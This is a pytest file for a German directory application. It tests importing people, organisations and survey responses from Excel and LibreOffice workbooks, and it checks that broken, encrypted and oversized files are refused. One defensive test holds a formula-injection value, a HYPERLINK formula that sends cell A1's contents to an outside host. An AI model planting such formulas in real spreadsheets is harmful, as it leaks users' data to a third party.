"""Excel (.xlsx) and LibreOffice (.ods) files come in like CSV: the same headers, checks,
all rows or none, and problems named by the sheet's row number."""

from __future__ import annotations

import zipfile
from datetime import UTC, date, datetime
from pathlib import Path

import pytest
from openpyxl import load_workbook
from sqlalchemy import func, select
from support.consents import import_people
from support.spreadsheets import write_ods, write_xlsx

from koordination.clock import Clock
from koordination.db.engine import Database
from koordination.domain.enums import ConsentPurpose
from koordination.domain.models import Organisation, Person, SurveyResponse
from koordination.errors import ImportFailed
from koordination.services.directory.imports.service import Imports
from koordination.services.directory.search import PeopleFilter
from koordination.services.directory.service import Directory
from koordination.services.surveys.response_import import ResponseImport
from koordination.services.tables.reader import read_table, sniff

TODAY = date(2026, 11, 22)
HEADER = [
    "Nachname",
    "Vorname",
    "E-Mail",
    "Telefon",
    "Organisation",
    "Sektor",
    "Einwilligung",
    "Einwilligung am",
]
ROWS = [
    [
        "Weiß",
        "Jürgen",
        "juergen@tafel.example",
        "0561 556677",
        "Tafel e.V.",
        "Zivilgesellschaft",
        "ja",
        date(2026, 3, 31),
    ],
    [
        "Schäfer",
        "Renate",
        "renate@stadt.example",
        None,
        "Stadtverwaltung",
        "Verwaltung",
        "ja",
        date(2026, 2, 1),
    ],
]


def count(db: Database, model: type[Person] | type[Organisation] | type[SurveyResponse]) -> int:
    with db.session() as session:
        return session.scalar(select(func.count()).select_from(model)) or 0


def names(db: Database) -> list[str]:
    return [r.name for r in Directory(db).list_people(PeopleFilter())]


def refused(db: Database, path: Path, message: str, **kw: object) -> None:
    with pytest.raises(ImportFailed, match=message):
        import_people(Imports(db, Clock.on(TODAY)), path, **kw)  # type: ignore[arg-type]
    assert count(db, Person) == 0
    assert count(db, Organisation) == 0


@pytest.mark.parametrize("writer", [write_xlsx, write_ods], ids=["xlsx", "ods"])
def test_people_from_a_workbook_arrive_with_dates_as_dates(
    db: Database, tmp_path: Path, writer: object
) -> None:
    path = writer(tmp_path / f"liste.{writer.__name__[-4:]}", [HEADER, *ROWS])  # type: ignore[operator]
    report = import_people(Imports(db, Clock.on(TODAY)), path)
    assert (report.created, report.organisations_created) == (2, 2)
    directory = Directory(db)
    assert names(db) == ["Renate Schäfer", "Jürgen Weiß"]
    juergen = directory.get_person(directory.list_people(PeopleFilter(search="weiß"))[0].id)
    assert juergen.emails == ("juergen@tafel.example",)
    assert juergen.affiliations[0].organisation_name == "Tafel e.V."
    assert juergen.consents[0].purpose == ConsentPurpose.EINLADUNGEN
    assert juergen.consents[0].given_at.date() == date(2026, 3, 31)


@pytest.mark.parametrize("writer", [write_xlsx, write_ods], ids=["xlsx", "ods"])
def test_a_bad_row_names_the_sheet_row_and_imports_nothing(
    db: Database, tmp_path: Path, writer: object
) -> None:
    # A title two rows above the header: row numbers are the sheet's, as the office sees them.
    suffix = writer.__name__[-4:]  # type: ignore[attr-defined]
    path = writer(  # type: ignore[operator]
        tmp_path / f"liste.{suffix}",
        [["Mitgliederliste 2026"], [], HEADER, ROWS[0], ["Müller", "Anna", "kein-at-zeichen"]],
    )
    with pytest.raises(ImportFailed) as err:
        import_people(Imports(db, Clock.on(TODAY)), path)
    problem = err.value.problems[0]
    assert (problem.line, problem.column) == (5, "E-Mail")
    assert "Zeile 5, Spalte „E-Mail“" in err.value.message
    assert count(db, Person) == 0


def test_organisations_from_a_workbook(db: Database, tmp_path: Path) -> None:
    path = write_xlsx(
        tmp_path / "orgs.xlsx",
        [["Name", "Sektor", "Telefon"], ["Tafel e.V.", "Zivilgesellschaft", "0561 4711"]],
    )
    assert Imports(db, Clock.on(TODAY)).organisations(path).created == 1
    assert [o.name for o in Directory(db).list_organisations()] == ["Tafel e.V."]


def test_sheet_by_name_and_the_first_visible_sheet_by_default(db: Database, tmp_path: Path) -> None:
    path = write_xlsx(
        tmp_path / "mappe.xlsx",
        [HEADER, ROWS[0]],
        before=[("Listen", [["Sektor"], ["Wirtschaft"]], True)],  # a hidden lookup sheet
        after=[("Ehemalige", [HEADER, ROWS[1]], False)],
    )
    assert sniff(path).sheet == "Mitglieder"
    import_people(Imports(db, Clock.on(TODAY)), path)
    assert names(db) == ["Jürgen Weiß"]
    import_people(Imports(db, Clock.on(TODAY)), path, sheet="ehemalige")  # case as typed
    assert names(db) == ["Renate Schäfer", "Jürgen Weiß"]


def test_an_unknown_sheet_lists_the_sheets_and_changes_nothing(
    db: Database, tmp_path: Path
) -> None:
    path = write_ods(tmp_path / "mappe.ods", [HEADER, ROWS[0]], before=[("Deckblatt", [["x"]])])
    refused(
        db,
        path,
        "kein Tabellenblatt „Aktive“. Vorhanden: „Deckblatt“, „Mitglieder“",
        sheet="Aktive",
    )


def test_a_sheet_name_for_a_csv_file_is_refused(db: Database, tmp_path: Path) -> None:
    path = tmp_path / "liste.csv"
    path.write_text("Nachname;Vorname\nWeiß;Jürgen\n", encoding="utf-8")
    refused(db, path, "CSV-Datei und hat keine Tabellenblätter", sheet="Mitglieder")


@pytest.mark.parametrize("suffix", ["xlsx", "ods"])
def test_an_empty_sheet_is_refused(db: Database, tmp_path: Path, suffix: str) -> None:
    writer = write_xlsx if suffix == "xlsx" else write_ods
    path = writer(tmp_path / f"leer.{suffix}", [])
    refused(db, path, f"Das Tabellenblatt „Mitglieder“ der Datei leer.{suffix} ist leer")


def test_an_xlsx_that_is_really_a_csv_is_read_as_csv(db: Database, tmp_path: Path) -> None:
    path = tmp_path / "export.xlsx"
    path.write_bytes("Nachname;Vorname\r\nWeiß;Jürgen\r\n".encode("cp1252"))
    assert import_people(Imports(db, Clock.on(TODAY)), path).created == 1
    assert names(db) == ["Jürgen Weiß"]


def test_a_csv_that_is_really_a_workbook_is_read_as_one(db: Database, tmp_path: Path) -> None:
    path = write_xlsx(tmp_path / "liste.xlsx", [HEADER, *ROWS])
    renamed = path.rename(tmp_path / "liste.csv")
    assert import_people(Imports(db, Clock.on(TODAY)), renamed).created == 2


@pytest.mark.parametrize("suffix", ["xlsx", "ods"])
def test_a_truncated_workbook_is_refused_as_broken(
    db: Database, tmp_path: Path, suffix: str
) -> None:
    writer = write_xlsx if suffix == "xlsx" else write_ods
    path = writer(tmp_path / f"kaputt.{suffix}", [HEADER, *ROWS])
    path.write_bytes(path.read_bytes()[:-200])
    refused(db, path, "ist beschädigt und lässt sich nicht lesen")


def test_a_zip_with_a_missing_part_is_refused_as_broken(db: Database, tmp_path: Path) -> None:
    good = write_xlsx(tmp_path / "gut.xlsx", [HEADER, *ROWS])
    bad = tmp_path / "kaputt.xlsx"
    with zipfile.ZipFile(good) as src, zipfile.ZipFile(bad, "w") as dst:
        for info in src.infolist():
            if not info.filename.startswith("xl/worksheets/"):
                dst.writestr(info, src.read(info))
    refused(db, bad, "Die Datei kaputt.xlsx enthält kein Tabellenblatt")


def test_a_password_protected_xlsx_is_refused(db: Database, tmp_path: Path) -> None:
    # Excel keeps an encrypted workbook in its OLE container with an "EncryptedPackage" stream
    # (the names in the container's directory are UTF-16).
    path = tmp_path / "geheim.xlsx"
    header = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 504
    path.write_bytes(
        header
        + "EncryptedInfo".encode("utf-16-le")
        + b"\x00" * 64
        + "EncryptedPackage".encode("utf-16-le")
        + b"\x00" * 512
    )
    refused(db, path, "mit einem Kennwort geschützt")


def test_an_old_xls_file_is_refused_with_a_hint(db: Database, tmp_path: Path) -> None:
    path = tmp_path / "alt.xls"
    path.write_bytes(
        b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 2048 + "Workbook".encode("utf-16-le")
    )
    refused(db, path, r"alten Excel-Format \(.xls\)")


def test_a_password_protected_ods_is_refused(db: Database, tmp_path: Path) -> None:
    path = tmp_path / "geheim.ods"
    with zipfile.ZipFile(path, "w") as archive:
        archive.writestr("mimetype", "application/vnd.oasis.opendocument.spreadsheet")
        archive.writestr(
            "META-INF/manifest.xml",
            '<manifest:manifest xmlns:manifest="urn:oasis:names:tc:opendocument:xmlns:'
            'manifest:1.0">'
            '<manifest:file-entry manifest:full-path="content.xml"><manifest:encryption-data/>'
            "</manifest:file-entry></manifest:manifest>",
        )
        archive.writestr("content.xml", b"\x8f\x01 encrypted bytes")
    refused(db, path, "mit einem Kennwort geschützt")


def test_a_word_document_is_no_table(db: Database, tmp_path: Path) -> None:
    path = tmp_path / "brief.xlsx"
    with zipfile.ZipFile(path, "w") as archive:
        archive.writestr("word/document.xml", "<w:document/>")
    refused(db, path, "Word-Dokument, keine Tabelle")


def test_formulas_arrive_as_shown_and_text_starting_with_formula_characters_stays_text(
    db: Database, tmp_path: Path
) -> None:
    hostile = '=HYPERLINK("http://example.org/?"&A1;"Klick")'
    path = write_xlsx(
        tmp_path / "formeln.xlsx",
        [["Nachname", "Vorname", "Notizen"], ["Weiß", "Jürgen", hostile], ["@Summe", "-1", "x"]],
    )
    wb = load_workbook(path)
    ws = wb["Mitglieder"]
    assert ws["C2"].data_type == "f"  # a real formula, without a cached result
    ws["C3"].value = "=1+1"
    ws["C3"].data_type = "s"  # text that looks like a formula, as "'=1+1" typed in Excel
    wb.save(path)
    _header, rows = read_table(path)
    # A formula is read as what Excel shows (its last result; here none), never as its text.
    assert rows[0].cells == ["Weiß", "Jürgen", ""]
    assert rows[1].cells == ["@Summe", "-1", "=1+1"]
    import_people(Imports(db, Clock.on(TODAY)), path)
    directory = Directory(db)
    assert names(db) == ["-1 @Summe", "Jürgen Weiß"]
    summe = directory.get_person(directory.list_people(PeopleFilter(search="summe"))[0].id)
    assert summe.notes == "=1+1"


def test_a_huge_cell_is_refused_with_its_row(db: Database, tmp_path: Path) -> None:
    # (openpyxl itself cuts a cell at Excel's 32,767 characters; LibreOffice's cells have no limit)
    path = write_ods(tmp_path / "riesig.ods", [HEADER, ROWS[0], ["Weiß", "x" * 140_000]])
    refused(db, path, "ab Zeile 3 nicht lesbar: eine Zelle ist zu lang")


def test_merged_cells_keep_their_value_in_the_first_cell(db: Database, tmp_path: Path) -> None:
    path = write_xlsx(
        tmp_path / "verbunden.xlsx", [["Liste"], HEADER[:3], ["Weiß", "Jürgen", "j@x.example"]]
    )
    wb = load_workbook(path)
    wb["Mitglieder"].merge_cells("A1:C1")
    wb["Mitglieder"].merge_cells("A3:A3")
    wb.save(path)
    report = import_people(Imports(db, Clock.on(TODAY)), path)
    assert report.created == 1
    assert "Zeile 1 steht über der Kopfzeile" in " ".join(report.warnings)


def test_an_ods_with_a_million_repeated_empty_rows_reads_quickly(tmp_path: Path) -> None:
    path = write_ods(tmp_path / "lang.ods", [HEADER, ROWS[0]])
    with zipfile.ZipFile(path) as archive:
        parts = {i.filename: archive.read(i) for i in archive.infolist()}
    content = parts["content.xml"].decode()
    filler = (
        '<table:table-row table:number-rows-repeated="1048570">'
        '<table:table-cell table:number-columns-repeated="16384"/></table:table-row>'
    )
    parts["content.xml"] = content.replace("</table:table>", filler + "</table:table>").encode()
    with zipfile.ZipFile(path, "w") as archive:
        archive.writestr("mimetype", parts.pop("mimetype"))
        for name, data in parts.items():
            archive.writestr(name, data)
    header, rows = read_table(path)
    assert header == HEADER
    assert [r.line for r in rows] == [2]


# --------------------------------------------------------------------------- survey responses

SURVEY_HEADER = [
    "Antwort-ID",
    "Abgeschickt am",
    "F1 Sektor",
    "F4 Förderberatung",
    "F6 Engagierte",
    "F7 Gründung",
]


@pytest.mark.parametrize("suffix", ["xlsx", "ods"])
def test_survey_responses_from_a_workbook_keep_numbers_dates_and_times(
    db: Database, tmp_path: Path, suffix: str
) -> None:
    from test_survey_import import build_survey, stored

    sid = build_survey(db)
    writer = write_xlsx if suffix == "xlsx" else write_ods
    path = writer(
        tmp_path / f"antworten.{suffix}",
        [
            SURVEY_HEADER,
            ["A-1", datetime(2026, 9, 14, 10, 22), "Verwaltung", True, 1250, date(1998, 3, 1)],
            ["A-2", datetime(2026, 9, 14, 18, 30, 5), "Wirtschaft", False, 3.5, None],
        ],
    )
    report = ResponseImport(db).run(sid, path)
    assert report.imported == 2
    answers = stored(db, sid)
    assert answers["A-1"]["F6"] == 1250.0
    assert answers["A-1"]["F7"] == "1998-03-01"
    assert answers["A-2"]["F6"] == 3.5
    with db.session() as session:
        at = dict(
            session.execute(select(SurveyResponse.external_id, SurveyResponse.submitted_at)).all()
        )
    assert at == {
        "A-1": datetime(2026, 9, 14, 8, 22, tzinfo=UTC),
        "A-2": datetime(2026, 9, 14, 16, 30, 5, tzinfo=UTC),
    }


def test_a_bad_survey_row_names_the_sheet_row(db: Database, tmp_path: Path) -> None:
    from test_survey_import import build_survey

    sid = build_survey(db)
    path = write_xlsx(
        tmp_path / "antworten.xlsx",
        [
            SURVEY_HEADER,
            ["A-1", datetime(2026, 9, 14, 10, 22), "Verwaltung"],
            ["A-2", datetime(2026, 9, 14, 10, 23), "Mond"],
        ],
        first_row=4,
        sheet="Antworten",
    )
    with pytest.raises(ImportFailed) as err:
        ResponseImport(db).run(sid, path, sheet="Antworten")
    assert err.value.problems[0].line == 6
    assert count(db, SurveyResponse) == 0
